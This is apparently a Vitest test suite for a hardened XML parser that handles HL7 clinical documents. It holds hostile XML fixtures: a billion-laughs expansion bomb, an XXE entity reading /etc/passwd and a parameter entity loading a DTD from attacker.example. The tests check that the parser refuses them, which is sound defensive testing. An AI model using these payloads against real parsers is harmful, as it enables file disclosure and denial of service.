import { describe, expect, it } from 'vitest';
import { attr, cleanText, firstChild, parseXml, XmlMalformedError, XmlUnsafeError, type XmlElement } from '../../src/mime/cda/xml.js';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&lol9;</title></ClinicalDocument>`;

const EXTERNAL_ENTITY = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE ClinicalDocument [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&xxe;</title></ClinicalDocument>`;

const PARAMETER_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE r [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]><r/>`;

function refusal(input: string | Buffer, limits?: Parameters<typeof parseXml>[1]): unknown {
  try {
    parseXml(input, limits);
  } catch (err) {
    return err;
  }
  return null;
}

describe('parseXml: refused documents', () => {
  it('refuses the billion laughs before any expansion', () => {
    const err = refusal(BILLION_LAUGHS);
    expect(err).toBeInstanceOf(XmlUnsafeError);
    expect(err).toMatchObject({ reason: 'doctype' });
  });

  it('refuses an external entity (XXE) and a parameter entity', () => {
    expect(refusal(EXTERNAL_ENTITY)).toMatchObject({ name: 'XmlUnsafeError', reason: 'doctype' });
    expect(refusal(PARAMETER_ENTITY)).toMatchObject({ reason: 'doctype' });
  });

  it('refuses any DOCTYPE, whatever its case or spacing, even without entities', () => {
    expect(refusal('<!doctype html><r/>')).toMatchObject({ reason: 'doctype' });
    expect(refusal('<!DOCTYPE r SYSTEM "r.dtd"><r/>')).toMatchObject({ reason: 'doctype' });
    expect(refusal(Buffer.from('\ufeff<!DOCTYPE r><r/>', 'utf8'))).toMatchObject({ reason: 'doctype' });
    // UTF-16 without a byte-order mark is not read as UTF-16, so it cannot smuggle a DOCTYPE past the check.
    expect(refusal(Buffer.from('<!DOCTYPE r><r/>', 'utf16le'))).toBeInstanceOf(XmlMalformedError);
  });

  it('refuses a DOCTYPE hidden in UTF-16 with a byte-order mark', () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>', 'utf16le')]);
    expect(refusal(utf16)).toMatchObject({ reason: 'doctype' });
  });

  it('refuses a document over the size limit before reading it', () => {
    const big = `<r>${'x'.repeat(2000)}</r>`;
    expect(refusal(big, { maxBytes: 1000, maxDepth: 10 })).toMatchObject({ name: 'XmlUnsafeError', reason: 'too-large' });
  });

  it('refuses nesting over the depth limit, also far beyond the call stack', () => {
    const nest = (n: number) => '<a>'.repeat(n) + '</a>'.repeat(n);
    expect(refusal(nest(11), { maxBytes: 1e6, maxDepth: 10 })).toMatchObject({ reason: 'too-deep' });
    expect(refusal(nest(100_000), { maxBytes: 1e7, maxDepth: 200 })).toMatchObject({ reason: 'too-deep' });
    expect(parseXml(nest(10), { maxBytes: 1e6, maxDepth: 10 }).local).toBe('a');
  });

  it('refuses documents that are not well-formed, with a typed error that quotes nothing', () => {
    for (const bad of ['<a><b></a>', '<a>', '', 'text only', '<a></a><b></b>', '<a x="1" x="2"/>']) {
      const err = refusal(bad);
      expect(err, bad).toBeInstanceOf(XmlMalformedError);
    }
  });

  it('refuses attribute names that would pollute prototypes', () => {
    expect(refusal('<a __proto__="x"/>')).toBeInstanceOf(XmlMalformedError);
  });

  it('refuses an encoding it cannot read', () => {
    expect(refusal(Buffer.from('<?xml version="1.0" encoding="x-unknown-42"?><r/>'))).toBeInstanceOf(XmlMalformedError);
  });
});

describe('parseXml: the tree', () => {
  it('keeps mixed content in order and decodes predefined entities and character references only', () => {
    const root = parseXml('<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><!-- c --><p>a &amp; b <b>&#233;&#xE9;</b> c&lt;<![CDATA[&amp;<x>]]> &nbsp;</p>');
    expect(root.children).toEqual(['a & b ', expect.objectContaining({ local: 'b', children: ['éé'] }), ' c<', '&amp;<x>', ' &nbsp;']);
  });

  it('resolves namespace prefixes, default and declared, scoped to their element', () => {
    const root = parseXml('<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:sdtc="urn:hl7-org:sdtc"><sdtc:id/><id/><x xmlns=""><y/></x></ClinicalDocument>');
    const [sdtc, id, x] = root.children as XmlElement[];
    expect(root.ns).toBe('urn:hl7-org:v3');
    expect(sdtc).toMatchObject({ name: 'sdtc:id', local: 'id', ns: 'urn:hl7-org:sdtc' });
    expect(id).toMatchObject({ local: 'id', ns: 'urn:hl7-org:v3' });
    expect(x!.ns).toBeNull();
    expect(firstChild(x, 'y')!.ns).toBeNull();
  });

  it('leaves an undeclared prefix without namespace instead of failing (a published XDM sample has one)', () => {
    const root = parseXml('\r\n\t<ns3:SubmitObjectsRequest><RegistryObjectList/></ns3:SubmitObjectsRequest>');
    expect(root).toMatchObject({ local: 'SubmitObjectsRequest', ns: null });
  });

  it('decodes attribute values and keeps them in a null-prototype record', () => {
    const root = parseXml('<a title="x &quot;y&quot; &#38; z" constructor-like="1"/>');
    expect(attr(root, 'title')).toBe('x "y" & z');
    expect(attr(root, 'toString')).toBeNull();
    expect(Object.getPrototypeOf(root.attrs)).toBeNull();
  });

  it('reads the declared encoding and byte-order marks', () => {
    expect(cleanText(parseXml(Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><t>\xe9t\xe9</t>', 'latin1')))).toBe('été');
    expect(cleanText(parseXml(Buffer.from('\ufeff<t>été</t>', 'utf8')))).toBe('été');
    expect(cleanText(parseXml(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('<t>été</t>', 'utf16le').swap16()])))).toBe('été');
  });
});
